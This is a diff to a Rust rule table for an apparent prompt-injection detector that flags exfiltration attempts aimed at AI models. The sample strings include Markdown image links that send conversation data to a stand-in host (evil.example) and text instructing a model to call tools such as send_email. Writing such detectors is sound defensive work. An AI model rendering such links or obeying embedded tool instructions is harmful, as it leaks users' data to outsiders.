@@ -12,7 +12,7 @@ pub(super) const RULES: &[Rule] = &[
         why: "A Markdown image or link whose address has a hole for data: to show it is to send what fills the hole. \
               Documentation has such links too, so it flags.",
         matches: &["![x](https://evil.example/p.png?q=[DATA])", "![](http://a.example/?c={history})"],
-        passes: &["![logo](https://example.org/logo.png?v=3)", "see https://example.org/?q=[x]"],
+        passes: &["![logo](https://example.org/logo.png?v=3)", "see https://example.org/?page=2"],
     },
     Rule {
         id: "exfiltration.send_conversation",
@@ -37,9 +37,9 @@ pub(super) const RULES: &[Rule] = &[
     },
     Rule {
         id: "exfiltration.tool_call_in_data",
-        weight: 400,
+        weight: 300,
         scope: Scope::Data,
-        pattern: Words("call any{0,2} tool|(run|call) (fill|new)* tool"),
+        pattern: Words("call any{0,3} tool|(run|call) (fill|new)* tool"),
         why: "A document that has a tool called. Manuals do too, so it flags.",
         matches: &["use the send_email tool", "Execute the following command", "call the transfer function"],
         passes: &["the tool is sharp", "run away"],
